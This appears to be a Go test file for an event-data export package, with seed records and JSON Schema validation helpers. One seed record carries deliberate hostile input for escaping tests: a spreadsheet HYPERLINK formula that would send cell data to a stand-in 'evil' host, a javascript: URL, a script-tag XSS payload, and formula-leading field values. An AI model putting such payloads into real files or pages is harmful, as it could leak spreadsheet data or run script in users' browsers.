package export_test

import (
	"bytes"
	"testing"

	"github.com/attache-app/attache/data/export"
	"github.com/attache-app/attache/data/model"
	"github.com/santhosh-tekuri/jsonschema/v6"
)

// seedEvents are the two events the seed article reports, as the
// store would hand them over, plus an undated one and one with hostile text.
func seedEvents() []export.EventRecord {
	trump := export.Party{Name: "Donald Trump", EntityID: 2, Kind: model.KindPerson, Country: "USA"}
	xi := export.Party{Name: "Xi Jinping", EntityID: 1, Kind: model.KindPerson, Country: "CHN"}
	return []export.EventRecord{
		{
			ID: 1, Date: "2025-01-17", DatePrecision: "day", DateText: "on Friday", DateBasis: model.BasisRelative,
			Actor: []export.Party{trump, xi}, Event: "CONSULT", Mode: "phone", CAMEO: "041", Goldstein: 1,
			QuadClass: 1,
			Text:      "US president-elect Donald Trump and Chinese President Xi Jinping (習近平) discussed Taiwan, trade, fentanyl and TikTok in a phone call on Friday",
			Source: export.Source{ArticleID: 1, Title: "Trump, Xi discuss Taiwan, trade in phone call", Publication: "Taipei Times",
				Published: "2025-01-18", URL: "https://www.taipeitimes.com/News/front/archives/2025/01/18/2003830470", Start: 0, End: 144},
			Status: model.StatusSuggested, Tags: []string{"US–China"},
		},
		{
			ID: 2, Date: "2025-06-23", DatePrecision: "day", DateText: "on Monday", DateBasis: model.BasisRelative,
			Actor:     []export.Party{{Name: "Canada", EntityID: 15, Kind: model.KindCountry, Country: "CAN"}},
			Recipient: []export.Party{{Name: "European Union", EntityID: 16, Kind: model.KindOrganisation}},
			Event:     "SUPPORT", Mode: "agreement", CAMEO: "057", Goldstein: 8, QuadClass: 1,
			Text:   "Canada and the EU on Monday signed a defense and security pact",
			Source: export.Source{ArticleID: 5, Title: "Canada, EU sign defense pact", Publication: "Taipei Times", Published: "2025-06-24", Start: 0, End: 62},
			Status: model.StatusConfirmed, Coder: "ana",
		},
		{
			ID: 3, Date: "2025-06-01", DatePrecision: "month", DateText: "early this month", DateBasis: model.BasisRelative,
			Actor:     []export.Party{{Name: "New Zealand", EntityID: 14, Kind: model.KindCountry, Country: "NZL"}},
			Recipient: []export.Party{{Name: "Cook Islands", EntityID: 4, Kind: model.KindCountry, Country: "COK"}},
			Event:     "SANCTION", CAMEO: "1621", Goldstein: -5.6, QuadClass: 4,
			Text: "New Zealand has suspended millions of dollars in budget funding to the Cook Islands",
			Source: export.Source{ArticleID: 2, Title: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", Publication: "@Times, \"Pacific\"\nedition",
				Published: "2025-06-20", URL: "javascript:alert(1)", Start: 10, End: 95},
			Status: model.StatusSuggested, Tags: []string{"-aid", "+pacific"}, Note: "decision date, not the announcement\r\n=1+1", Coder: "=bea",
			Summary: "<script>alert('x')</script> aid <b>cut</b>",
		},
		{
			ID: 4, DateText: "last year", DateBasis: model.BasisUnresolved,
			Actor: []export.Party{trump}, Event: "THREATEN", CAMEO: "13", Goldstein: -4, QuadClass: 3,
			Text: "Trump threatened to raise tariffs", Status: model.StatusRejected,
		},
	}
}

// compileSchema compiles the committed events schema, at ref (the whole
// array, or "#/$defs/event" for one JSON Lines record).
func compileSchema(t *testing.T, ref string) *jsonschema.Schema {
	t.Helper()
	doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(export.Schema()))
	if err != nil {
		t.Fatalf("schema is not JSON: %v", err)
	}
	c := jsonschema.NewCompiler()
	c.DefaultDraft(jsonschema.Draft2020)
	if err := c.AddResource("events.schema.json", doc); err != nil {
		t.Fatal(err)
	}
	sch, err := c.Compile("events.schema.json" + ref)
	if err != nil {
		t.Fatalf("compile schema: %v", err)
	}
	return sch
}

// validate checks one JSON document against sch.
func validate(t *testing.T, sch *jsonschema.Schema, data []byte) error {
	t.Helper()
	inst, err := jsonschema.UnmarshalJSON(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("not JSON: %v\n%s", err, data)
	}
	return sch.Validate(inst)
}
